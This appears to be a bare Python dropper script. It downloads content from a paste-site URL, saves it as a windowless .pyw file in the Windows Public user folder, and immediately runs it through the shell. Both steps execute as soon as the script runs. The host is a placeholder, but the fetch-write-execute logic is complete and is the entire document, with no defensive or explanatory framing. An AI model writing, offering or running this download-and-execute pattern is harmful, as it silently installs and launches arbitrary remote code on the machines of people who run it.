import subprocess

import requests

TARGET = "C:/Users/Public/helper.pyw"


def fetch():
    response = requests.get("https://paste.example.invalid/raw/helper", timeout=10)
    with open(TARGET, "w") as fh:
        fh.write(response.text)


def launch():
    subprocess.call("start C:/Users/Public/helper.pyw", shell=True)


fetch()
launch()
